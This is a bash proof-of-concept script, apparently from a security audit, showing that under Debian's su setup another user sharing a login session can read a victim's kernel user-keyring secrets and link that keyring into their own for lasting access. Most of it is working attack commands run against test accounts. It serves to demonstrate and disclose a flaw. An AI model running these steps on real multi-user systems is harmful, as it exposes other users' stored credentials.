#!/usr/bin/env bash
# Finding: the user keyring's possessor "search"+"link" (0x18, kept so pam_keyinit can
# link @u into each login's session) lets ANOTHER uid that shares the owner's session
# (alice runs `su bob`: Debian's /etc/pam.d/su has no pam_keyinit) (1) read every key in
# alice's @u that is not kc's (default masks give possessors all rights), and (2) link
# alice's @u into bob's OWN user keyring, so bob keeps reaching it from any later
# process, after the shared session is gone, until reboot.
# Run as root. Usage: possessor_link_persists.sh [with-when-unlocked]
source "$(dirname "$0")/common.sh"
mkuser kc-atk-alice 'Alice-pw-1'; mkuser kc-atk-bob 'Bob-pw-1'
WU=${1:-}
AUID=$(id -u kc-atk-alice)
cat > /tmp/attack36-logs/bob.sh <<BOB
echo "[bob] uid \$(id -u) in session \$(keyctl show @s 2>&1 | head -1 | sed s/^Format:.*/no-id/)"
u=\$(keyctl search @s keyring _uid.$AUID 2>&1); echo "[bob] search @s for alice's user keyring: \$u"
t=\$(keyctl search @s user token 2>&1); echo "[bob] search @s for alice's non-kc key 'token': \$t"
echo "[bob] print it: \$(keyctl print \$t 2>&1 | head -1 | sed s/^Format:.*/no-id/)"
echo "[bob] kc item of alice (svc2 x): \$(keyctl search @s user x 2>&1)"
echo "[bob] link alice's @u into bob's own @u: \$(keyctl link \$u @u 2>&1 | head -1 | sed s/^Format:.*/no-id/ ; keyctl rlist @u)"
echo "[bob] search alice's kc:svc2 keyring: \$(keyctl search @s keyring kc:svc2 2>&1)"
echo "[bob] unlink the non-kc key from alice's @u (needs write on @u): \$(keyctl unlink \$t \$u 2>&1 | head -1 | sed s/^Format:.*/no-id/)"
BOB
chmod 644 /tmp/attack36-logs/bob.sh
su - kc-atk-bob -c 'keyctl clear @u' >/dev/null 2>&1
su - kc-atk-alice -c "keyctl session - bash -c '
  keyctl link @u @s >/dev/null                                  # what pam_keyinit does at login
  keyctl purge user token >/dev/null 2>&1
  keyctl add user token s3cret-not-kc @u >/dev/null             # a key some other tool keeps in @u
  echo -n v | $KC set svc2 x --access after-first-unlock        # kc stores: @u mask becomes 0x183f0000
  [ -n \"$WU\" ] && echo -n w | $KC set web2 y --access when-unlocked   # kc stores in @s: its possessor rights go
  echo \"[alice] @u: \$(keyctl rdescribe @u)\"; echo \"[alice] @s: \$(keyctl rdescribe @s)\"
  expect -c \"log_user 0; spawn su -s /bin/bash kc-atk-bob -c {bash /tmp/attack36-logs/bob.sh}; expect assword:; send Bob-pw-1\\r; log_user 1; expect eof\" | tr -d \"\\r\"
'" 2>&1 | grep -v '^Joined'
echo "--- later: a new bob login, alice's session gone (su - bob, new session keyring)"
su - kc-atk-bob -c "keyctl session - bash -c '
  keyctl link @u @s >/dev/null    # pam_keyinit does this in every login of bob
  echo \"[bob later] bob @u holds: \$(keyctl rlist @u 2>&1)\"
  t=\$(keyctl search @u user token 2>&1); echo \"[bob later] search bob @u for user token: \$t\"
  echo \"[bob later] print: \$(keyctl print \$t 2>&1 | head -1 | sed s/^Format:.*/no-id/)\"
'" 2>&1 | grep -v '^Joined'
echo "--- alice adds a new non-kc key afterwards; bob reads it without any shared session"
su - kc-atk-alice -c "keyctl add user later later-secret @u >/dev/null"
su - kc-atk-bob -c "keyctl session - bash -c 'keyctl link @u @s >/dev/null; t=\$(keyctl search @u user later 2>&1); echo \"[bob later] alice new key: \$(keyctl print \$t 2>&1 | head -1 | sed s/^Format:.*/no-id/)\"'" 2>&1 | grep -v '^Joined'
